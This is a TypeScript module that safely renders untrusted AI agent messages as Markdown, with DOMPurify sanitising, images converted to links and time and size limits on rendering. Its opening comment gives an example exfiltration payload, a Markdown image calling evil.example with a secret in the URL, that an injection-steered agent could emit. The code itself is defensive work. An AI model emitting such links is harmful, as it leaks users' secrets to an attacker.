// Agent output is untrusted. Markdown is rendered with marked, and HTML written
// in a message is part of its text: it is shown as written (escaped), never
// rendered as markup, so that an agent explaining `<b>` or `<script>` outside a
// code span keeps every character of it. What marked makes is then passed
// through DOMPurify, the last line of defence should HTML get through anyway:
// everything not plain HTML is removed (scripts, event handlers, javascript:
// and other unsafe URLs, forms, styles). Links open in a new tab without the
// page's opener or referrer.
//
// Nothing in a message is fetched without a click: an agent steered by text it
// was given could otherwise leak what it knows by writing
// `![x](https://evil.example/?d=<secret>)`, which the browser would load as
// soon as the message is shown. So an image becomes a link to it showing its
// alt text, media elements are removed, and so are the attributes that load a
// URL by themselves (`srcset`, `poster`, `background`). The page's
// Content-Security-Policy (img-src 'self') is the second line.
//
// Rendering is bounded, since one message must never stop the page: marked
// recurses once per level of nesting (a few thousand block quotes overflow the
// stack) and is quadratic on some inputs (tens of thousands of `*a` took
// seconds). So a message is shown as plain text (plain-text.ts: line breaks
// kept, never parsed) when it is longer than MARKDOWN_MAX_CHARS, when a linear
// scan finds it nested deeper than MARKDOWN_MAX_DEPTH, when counting what
// makes elements (table cells, emphasis delimiters) finds more than
// MARKDOWN_MAX_ELEMENTS, when marked has not finished within
// MARKDOWN_BUDGET_MS (checked every few tokens and blocks), or when rendering
// throws.
import DOMPurify from 'dompurify';
import { Marked, type Tokens } from 'marked';
import { markdownShape } from './markdown-shape.js';

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A' && node.hasAttribute('href')) openInNewTab(node);
  // The image's attributes are sanitized by now: its src is a safe URL, or gone.
  if (node.tagName === 'IMG') node.replaceWith(imageAsLink(node));
});

function openInNewTab(link: Element): void {
  link.setAttribute('target', '_blank');
  link.setAttribute('rel', 'noopener noreferrer nofollow');
}

/**
 * A link to the image labelled with its alt text (or its URL). Inside a link,
 * or when it has no URL worth opening (a data: URL), only the label is left.
 */
function imageAsLink(image: Element): Node {
  const document = image.ownerDocument;
  const src = image.getAttribute('src')?.trim() ?? '';
  const linkable = src !== '' && !/^data:/i.test(src);
  const label = image.getAttribute('alt')?.trim() || (linkable ? src : '') || 'image';
  if (!linkable || image.parentElement?.closest('a')) return document.createTextNode(label);
  const link = document.createElement('a');
  link.setAttribute('href', src);
  const title = image.getAttribute('title');
  if (title) link.setAttribute('title', title);
  link.textContent = label;
  openInNewTab(link);
  return link;
}

const ESCAPES: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#39;',
};

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (character) => ESCAPES[character] ?? character);
}

const markdown = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    // An HTML tag in a line is text of it; an HTML block is a paragraph of text, lines kept.
    html({ text, block }: Tokens.HTML | Tokens.Tag): string {
      const escaped = escapeHtml(text);
      return block ? `<p>${escaped.trimEnd().replace(/\n/g, '<br>')}</p>\n` : escaped;
    },
  },
});

/**
 * Longer messages are shown as plain text: some of marked's steps run a
 * regular expression over the rest of the message, which no budget can cut
 * short (120 ms on one block quote of 8,000 lines, on a busy machine), and
 * laying out that much HTML takes long too.
 */
export const MARKDOWN_MAX_CHARS = 16_384;
/**
 * Markdown that makes more elements is shown as plain text. Each element
 * costs in marked, in DOMPurify and in layout: a 16,378-character Markdown
 * document of about 1,900 elements (headings, lists, code, quotes, links)
 * took 28 to 68 ms to render and sanitize and up to 110 ms to paint
 * (headless Chromium on 2 busy cores), past the 50 ms a message may take.
 */
export const MARKDOWN_MAX_ELEMENTS = 1_000;
/** Messages up to this long are rendered without a time budget. */
export const MARKDOWN_UNTIMED_CHARS = 2_048;
/** Deeper nesting is shown as plain text (see markdownDepth in markdown-shape.ts); marked overflowed its stack at about 1,200 levels. */
export const MARKDOWN_MAX_DEPTH = 32;
/** A message whose Markdown is not rendered by then is shown as plain text. */
export const MARKDOWN_BUDGET_MS = 20;

/** Why a message is shown as plain text rather than rendered Markdown. */
export type PlainTextReason = 'size' | 'depth' | 'time' | 'error';

/** A message's Markdown as sanitized HTML, or why it is to be shown as plain text (see plain-text.ts). */
export type RenderedMessage = { html: string } | { plain: PlainTextReason };

class BudgetExceeded extends Error {}

/** When marked must give up: checked before the tokens it reads and the blocks it writes. */
let deadline = Infinity;

/**
 * The clock is read at one check in this many. Reading it costs more than
 * most of marked's steps: on 16,378 characters of short lines (147,000
 * checks) marked took 30 to 50 ms with a read at each, 4 to 8 ms without (in
 * Chromium, on a busy machine), and a budget spent on reading the clock turns
 * ordinary Markdown into plain text. Between two reads marked makes this many
 * steps, a few microseconds each.
 */
const CHECKS_PER_CLOCK_READ = 32;
let checksUntilClockRead = 0;

function withinBudget(): false {
  checksUntilClockRead -= 1;
  if (checksUntilClockRead <= 0) {
    checksUntilClockRead = CHECKS_PER_CLOCK_READ;
    checkDeadline();
  }
  return false; // marked then runs its own tokenizer or renderer
}

function checkDeadline(): void {
  if (performance.now() > deadline) throw new BudgetExceeded('Markdown render budget exceeded');
}

const BLOCK_TOKENIZERS = [
  'space',
  'code',
  'fences',
  'heading',
  'hr',
  'blockquote',
  'list',
  'html',
  'def',
  'table',
  'lheading',
  'paragraph',
  'text',
] as const;
const INLINE_TOKENIZERS = [
  'escape',
  'tag',
  'link',
  'reflink',
  'emStrong',
  'codespan',
  'br',
  'del',
  'autolink',
  'url',
  'inlineText',
] as const;
const BLOCK_RENDERERS = [
  'code',
  'blockquote',
  'heading',
  'list',
  'listitem',
  'paragraph',
  'table',
  'tablerow',
] as const;

markdown.use({
  tokenizer: Object.fromEntries(
    [...BLOCK_TOKENIZERS, ...INLINE_TOKENIZERS].map((name) => [name, withinBudget]),
  ),
  renderer: Object.fromEntries(BLOCK_RENDERERS.map((name) => [name, withinBudget])),
});

/**
 * A message's Markdown rendered and sanitized, or plain text when rendering is
 * out of bounds. Up to MARKDOWN_UNTIMED_CHARS the budget does not apply: so
 * short a message renders in a few ms whatever it holds, and a busy machine
 * (or marked's first, cold run) must not turn ordinary messages into text.
 */
export function renderMessage(text: string, budgetMs = MARKDOWN_BUDGET_MS): RenderedMessage {
  if (text.length > MARKDOWN_MAX_CHARS) return { plain: 'size' };
  const shape = markdownShape(text);
  if (shape.depth > MARKDOWN_MAX_DEPTH) return { plain: 'depth' };
  // Each line of text makes about one element (a paragraph, a line break, a
  // list item, a heading), each link one, each pair of emphasis, strikethrough
  // or code delimiters one (`**` and `**` take four): estimate them before
  // marked reads the message. marked spent 5 to 20 ms on 8,000 short lines only
  // for its HTML to be too big, is quadratic on runs of delimiters that do not
  // pair (8,189 `*a` took 50 ms and more), and a 16,378-character Markdown
  // document of ~1,900 elements ran past its budget by 12 ms.
  if (estimatedElements(text, shape.lines) > MARKDOWN_MAX_ELEMENTS) return { plain: 'size' };
  // A table makes about one element a `|`, and marked reads a whole table in
  // one step no budget can cut (50 ms for 2,700 rows): count them first.
  if (countOf(text, '|') > MARKDOWN_MAX_ELEMENTS) return { plain: 'size' };
  let html: string;
  deadline = text.length > MARKDOWN_UNTIMED_CHARS ? performance.now() + budgetMs : Infinity;
  checksUntilClockRead = 0; // (read at the first check)
  try {
    html = markdown.parse(text, { async: false });
    // A last step may have run long: sanitizing and laying out its HTML would too.
    checkDeadline();
  } catch (error) {
    // Also a stack overflow (RangeError) that the depth scan did not foresee.
    return { plain: error instanceof BudgetExceeded ? 'time' : 'error' };
  } finally {
    deadline = Infinity;
  }
  // DOMPurify's walk (and the layout after it) costs by the element: a table of
  // thousands of cells took 90 ms. Two tags an element.
  if (countTags(html) > MARKDOWN_MAX_ELEMENTS * 2) return { plain: 'size' };
  return { html: sanitizeHtml(html) };
}

/** At least how many elements marked would make of the text: see renderMessage. */
function estimatedElements(text: string, linesOfText: number): number {
  return linesOfText + countOf(text, '[') + Math.floor(countDelimiters(text) / 4);
}

/** How many tags the HTML holds: every `<` of marked's output opens one (text is escaped). */
function countTags(html: string): number {
  return countOf(html, '<');
}

function countOf(text: string, character: string): number {
  let count = 0;
  for (let at = text.indexOf(character); at !== -1; at = text.indexOf(character, at + 1))
    count += 1;
  return count;
}

/** How many `*`, `_`, `~` and backticks the text holds. */
function countDelimiters(text: string): number {
  let count = 0;
  for (let i = 0; i < text.length; i += 1) {
    const code = text.charCodeAt(i);
    if (code === 0x2a || code === 0x5f || code === 0x7e || code === 0x60) count += 1;
  }
  return count;
}

/** DOMPurify on rendered Markdown: plain HTML only, images as links, nothing that fetches. */
export function sanitizeHtml(html: string): string {
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: [
      'style',
      'form',
      'input',
      'button',
      'textarea',
      'select',
      'iframe',
      'audio',
      'video',
      'source',
      'track',
    ],
    FORBID_ATTR: ['style', 'srcset', 'poster', 'background'],
  });
}

const rendered = new WeakMap<object, RenderedMessage>();

/**
 * Rendered once per event object: a stored message never changes. Each render
 * is a User Timing measure, `cs:render-message` (its detail: the length, and
 * why it is plain text if it is), which `npm run bench` reads.
 */
export function renderMessageOnce(key: object, text: string): RenderedMessage {
  let message = rendered.get(key);
  if (message === undefined) {
    const started = performance.now();
    message = renderMessage(text);
    rendered.set(key, message);
    performance.measure('cs:render-message', {
      start: started,
      detail: { chars: text.length, plain: 'plain' in message ? message.plain : null },
    });
  }
  return message;
}
